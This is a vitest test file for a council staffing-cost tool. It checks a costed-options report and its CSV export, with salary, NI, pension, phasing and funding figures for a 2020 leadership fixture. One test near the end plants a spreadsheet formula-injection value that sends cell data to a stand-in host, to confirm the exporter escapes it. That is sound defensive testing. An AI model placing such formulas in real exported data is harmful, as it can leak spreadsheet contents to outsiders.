import { describe, expect, it } from 'vitest';
import { runChecks } from '$lib/analysis';
import { clt2020 } from '$lib/testing/councils';
import { grade, post } from '$lib/testing/structure';
import type { Structure } from '$lib/model/types';
import Papa from 'papaparse';
import { buildCostedOptionsReport } from './costedOptions';
import { POSTS_CSV_COLUMNS, postsCsv } from './postsCsv';

/**
 * An option built from the 2020 CLT fixture, chosen so every figure can be worked by hand
 * (fixture assumptions: NI 13.8% above £8,788, pension 19%, pay award 2.75% from 2020):
 *   deleted  Assistant Chief Executive, JNC Director          −192,011.26
 *   deleted  Director of HR and OD, JNC Director               −192,011.26
 *   created  Managing Director: City Operations, JNC Director  +192,011.26 (GF 60 / HRA 40, from 1 July 2021)
 *   created  Purpose Director: City Futures, £160,000 point    +211,267.26
 *              (NI (160,000 − 8,788) × 13.8% = 20,867.26; pension 30,400.00)
 *   changed  City Solicitor regraded JNC Director → AD: 108,347.26 − 192,011.26 = −83,664.00
 *   changed  Director of Public Health now reports to the Purpose Director (no cost)
 *   changed  Director of Education and Skills gives up the DCS role (no cost)
 *   (the Director of Neighbourhoods' provenance note changes: not listed)
 *   net      −384,022.52 + 403,278.52 − 83,664.00 = −64,408.00
 */
function option(): Structure {
	const s = structuredClone(clt2020());
	s.id = 'option-1';
	s.name = 'Option 1';
	s.derivedFrom = 'clt-2020';
	s.posts.get('assistant-chief-executive')!.status = 'deleted';
	s.posts = new Map([...s.posts].filter(([id]) => id !== 'director-hr'));
	s.grades['purpose-director'] = grade('purpose-director', 'Purpose Director', 160000);
	s.posts = new Map(s.posts).set(
		'md-city-operations',
		post('md-city-operations', 'Managing Director: City Operations', {
			reportsTo: 'ceo',
			status: 'new',
			funding: { generalFund: 60, hra: 40 },
			start: '2021-07-01'
		})
	);
	s.posts = new Map(s.posts).set(
		'pd-city-futures',
		post('pd-city-futures', 'Purpose Director: City Futures', {
			grade: 'purpose-director',
			reportsTo: 'ceo',
			status: 'new',
			statutoryRoles: ['dcs']
		})
	);
	s.posts.get('city-solicitor')!.grade = 'assistant-director';
	s.posts.get('director-public-health')!.reportsTo = 'pd-city-futures';
	s.posts.get('director-education-skills')!.statutoryRoles = [];
	// A new source note is not a change to the post: it must not be listed.
	s.posts.get('director-neighbourhoods')!.provenance = { kind: 'assumption', note: 're-sourced' };
	s.statedCostChange = {
		label: 'Net increase in senior establishment cost',
		value: 510000,
		provenance: { kind: 'source', file: '003_e19b15a5f720a5bc.txt', section: '7.3.1' }
	};
	s.oneOffCosts = {
		redundancy: {
			id: 'redundancy',
			label: 'Redundancy, two posts',
			kind: 'redundancy',
			amount: 95000,
			financialYear: '2021/22',
			provenance: { kind: 'assumption', note: 'the exit cap' }
		},
		recruitment: {
			id: 'recruitment',
			label: 'Recruitment',
			kind: 'recruitment',
			amount: 20000.5,
			financialYear: '2022/23',
			provenance: { kind: 'assumption', note: 'agency fee' }
		}
	};
	return s;
}

function report() {
	return buildCostedOptionsReport(
		{ structure: clt2020(), version: 1, builtIn: true },
		[{ structure: option(), version: 3, builtIn: false }],
		{ generatedAt: '2021-01-20T10:00:00.000Z' }
	);
}

describe('buildCostedOptionsReport', () => {
	it('buildCostedOptionsReport names the structures and versions it was made from', () => {
		const r = report();
		expect(r.generatedAt).toBe('2021-01-20T10:00:00.000Z');
		expect(r.base).toMatchObject({ id: 'clt-2020', version: 1, builtIn: true });
		expect(r.options[0].ref).toMatchObject({ id: 'option-1', version: 3, derivedFrom: 'clt-2020' });
		expect(r.years).toEqual(['2021/22', '2022/23']);
		expect(r.baseOnCosts).toEqual({ ni: '13.8% above £8,788 a year', pension: '19%' });
	});

	it('buildCostedOptionsReport costs each deleted and created post by grade point, NI and pension', () => {
		const o = report().options[0];
		expect(o.deleted.map((d) => d.postId).sort()).toEqual([
			'assistant-chief-executive',
			'director-hr'
		]);
		expect(o.deleted[0]).toMatchObject({
			gradeName: 'JNC Director',
			gradePoint: 145500,
			salary: 145500,
			employerNi: 18866.26,
			employerPension: 27645,
			total: 192011.26
		});
		const pd = o.created.find((c) => c.postId === 'pd-city-futures')!;
		expect(pd).toMatchObject({
			gradeName: 'Purpose Director',
			gradePoint: 160000,
			employerNi: 20867.26,
			employerPension: 30400,
			total: 211267.26
		});
		const md = o.created.find((c) => c.postId === 'md-city-operations')!;
		expect(md.fundingText).toBe('60% General Fund, 40% Housing Revenue Account');
		expect(md.funding.hra).toBe(76804.5);
		expect(md.start).toBe('2021-07-01');
	});

	it('buildCostedOptionsReport lists changed posts with what changed and the cost difference', () => {
		const o = report().options[0];
		const byId = Object.fromEntries(o.changed.map((c) => [c.postId, c]));
		expect(Object.keys(byId).sort()).toEqual([
			'city-solicitor',
			'director-education-skills',
			'director-public-health'
		]);
		// The report says a change as compare and the change log do: one describer.
		expect(byId['city-solicitor'].changes).toEqual([
			'City Solicitor is regraded from JNC Director to Assistant Director (−£83,664 a year)'
		]);
		expect(byId['city-solicitor'].delta).toBe(-83664);
		expect(byId['director-public-health'].changes).toEqual([
			'Director of Public Health now reports to Purpose Director: City Futures (was Chief Executive)'
		]);
		expect(byId['director-public-health'].delta).toBe(0);
		expect(byId['director-education-skills'].changes).toEqual([
			'Director of Education and Skills no longer holds the statutory role of Director of Children’s Services'
		]);
	});

	it('buildCostedOptionsReport makes the post lists add up to the full-year change to the penny', () => {
		const o = report().options[0];
		expect(o.totals).toEqual({
			deleted: -384022.52,
			created: 403278.52,
			changed: -83664,
			net: -64408
		});
		expect(o.summary.annualCostChange).toBe(-64408);
		expect(o.summary.annualCostBefore).toBe(3323943.4);
		expect(o.summary.annualCostAfter).toBe(3259535.4);
	});

	it('buildCostedOptionsReport splits the change by funding source', () => {
		const o = report().options[0];
		// The Managing Director's 192,011.26 splits 115,206.76 GF / 76,804.50 HRA.
		expect(o.summary.byFunding).toEqual([
			{
				source: 'generalFund',
				name: 'General Fund',
				before: 3323943.4,
				after: 3182730.9,
				change: -141212.5
			},
			{ source: 'hra', name: 'Housing Revenue Account', before: 0, after: 76804.5, change: 76804.5 }
		]);
	});

	it('buildCostedOptionsReport phases a post starting 1 July 2021 over 274 of 365 days', () => {
		const o = report().options[0];
		const [y1, y2] = o.summary.years;
		expect(y1.year).toBe('2021/22');
		expect(y1.payAwardFactor).toBeCloseTo(1.0275, 12);
		expect(y1.phasing).toEqual([
			{
				postId: 'md-city-operations',
				title: 'Managing Director: City Operations',
				fraction: 274 / 365,
				cost: Math.round(19201126 * (274 / 365) * 1.0275) / 100,
				side: 'option',
				start: '2021-07-01'
			}
		]);
		// Posts that did not change cancel; the rest at the year's pay award, each rounded to the penny.
		const f1 = 1.0275;
		const p = (pence: number, f: number) => Math.round(pence * f);
		const change1 =
			p(19201126, (274 / 365) * f1) + p(21126726, f1) + p(10834726, f1) - 3 * p(19201126, f1);
		expect(Math.round(y1.change * 100)).toBe(change1);
		const f2 = 1.0275 ** 2;
		expect(y2.phasing).toEqual([]);
		expect(Math.round(y2.change * 100)).toBe(
			p(21126726, f2) + p(10834726, f2) - 2 * p(19201126, f2)
		);
	});

	it('buildCostedOptionsReport gives spans, layers and failed checks before and after', () => {
		const o = report().options[0];
		// Out: ACE, HR, and Public Health to the Purpose Director; in: the MD and the PD.
		expect(o.summary.ceoSpan).toEqual({ before: 10, after: 9 });
		expect(o.summary.ceoSpanWithOffice).toEqual({ before: 11, after: 10 });
		// The three changed posts; the Director of Neighbourhoods' new source note is not counted.
		expect(o.summary.postsChanged).toBe(3);
		expect(o.summary.postsDeleted).toBe(2);
		expect(o.summary.postsCreated).toBe(2);
		expect(o.summary.layers).toEqual({ before: 3, after: 3 });
		expect(o.summary.failedChecks.after).toBe(
			runChecks(option()).flatMap((c) => c.violations).length
		);
		expect(o.summary.failedChecks.before).toBe(
			runChecks(clt2020()).flatMap((c) => c.violations).length
		);
	});

	it('buildCostedOptionsReport keeps one-off costs apart from the recurring change', () => {
		const o = report().options[0];
		expect(o.oneOff.total).toBe(115000.5);
		expect(o.oneOff.byYear).toEqual([
			{ year: '2021/22', total: 95000 },
			{ year: '2022/23', total: 20000.5 }
		]);
		expect(o.oneOff.rows[0]).toMatchObject({ kindName: 'Redundancy', originKind: 'Assumption' });
		expect(o.summary.annualCostChange).toBe(-64408);
	});

	it('buildCostedOptionsReport shows statutory role holders before and after', () => {
		const o = report().options[0];
		const dcs = o.statutory.find((r) => r.role === 'dcs')!;
		expect(dcs.before).toEqual([
			{ postId: 'director-education-skills', title: 'Director of Education and Skills' }
		]);
		expect(dcs.after).toEqual([
			{ postId: 'pd-city-futures', title: 'Purpose Director: City Futures' }
		]);
		expect(dcs.changed).toBe(true);
		const s151 = o.statutory.find((r) => r.role === 's151')!;
		expect(s151.changed).toBe(false);
		expect(s151.heldOnceAfter).toBe(true);
		expect(o.statutory).toHaveLength(6);
	});

	it('buildCostedOptionsReport reconciles against the stated +£510,000', () => {
		const o = report().options[0];
		expect(o.reconciliation.stated).toBe(510000);
		expect(o.reconciliation.modelled).toBe(-64408);
		// −64,408 − 510,000 = −574,408
		expect(o.reconciliation.difference).toBe(-574408);
		expect(o.reconciliation.explanation.join(' ')).toContain('£574,408 below');
	});

	it('buildCostedOptionsReport lists the assumptions and the grades behind the totals', () => {
		const r = report();
		const ni = r.assumptions.find((a) => a.key === 'employerNiRate')!;
		expect(ni).toMatchObject({ values: ['13.8%', '13.8%'], same: true, kind: 'Assumption' });
		const funding = r.assumptions.find((a) => a.key === 'defaultFunding')!;
		expect(funding.values).toEqual(['100% General Fund', '100% General Fund']);
		expect(r.grades.map((g) => [g.id, g.point, g.postsCosted])).toEqual([
			['purpose-director', 160000, 1],
			// Two deleted, one created, the three changed posts (the City Solicitor before regrading).
			['jnc-director', 145500, 6],
			['assistant-director', 82500, 1]
		]);
	});

	it('buildCostedOptionsReport draws the charts before and after, marking new and changed posts', () => {
		const r = report();
		expect(r.chartBefore.boxes).toHaveLength(22);
		const after = r.options[0].chartAfter;
		expect(after.boxes).toHaveLength(22);
		const mark = (id: string) => after.boxes.find((b) => b.id === id)?.mark;
		expect(mark('pd-city-futures')).toBe('new');
		expect(mark('city-solicitor')).toBe('changed');
		expect(mark('director-neighbourhoods')).toBeUndefined();
	});
});

describe('postsCsv', () => {
	it('postsCsv writes one row a deleted or created post and two a changed post, to the penny', () => {
		const csv = postsCsv(report());
		const parsed = Papa.parse<string[]>(csv.trim(), { skipEmptyLines: true }).data;
		const [header, ...rows] = parsed;
		expect(header).toEqual([...POSTS_CSV_COLUMNS]);
		// 2 deleted + 2 created + 3 changed × 2
		expect(rows).toHaveLength(10);
		const pd = rows.find((r) => r[3] === 'pd-city-futures')!;
		expect(pd.slice(0, 13)).toEqual([
			'option-1',
			'3',
			'created',
			'pd-city-futures',
			'Purpose Director: City Futures',
			'Corporate',
			'Purpose Director',
			'160000.00',
			'1',
			'160000.00',
			'20867.26',
			'30400.00',
			'211267.26'
		]);
		const col = header.indexOf('Change in full-year cost (£)');
		const net = rows.reduce((sum, r) => sum + Math.round(Number(r[col]) * 100), 0);
		expect(net).toBe(-6440800);
	});

	it('postsCsv writes a title that a spreadsheet would run as a formula as text', () => {
		const s = option();
		s.posts.get('pd-city-futures')!.title = '=HYPERLINK("http://x/?"&A2,"Click")';
		const r = buildCostedOptionsReport(
			{ structure: clt2020(), version: 1, builtIn: true },
			[{ structure: s, version: 3, builtIn: false }],
			{ generatedAt: '2021-01-20T10:00:00.000Z' }
		);
		const rows = Papa.parse<string[]>(postsCsv(r).trim(), { skipEmptyLines: true }).data;
		const pd = rows.find((row) => row[3] === 'pd-city-futures')!;
		expect(pd[4]).toBe(`'=HYPERLINK("http://x/?"&A2,"Click")`);
		// Negative money stays a number a spreadsheet can add.
		expect(rows.some((row) => row[13 + 4]?.startsWith('-'))).toBe(true);
	});
});
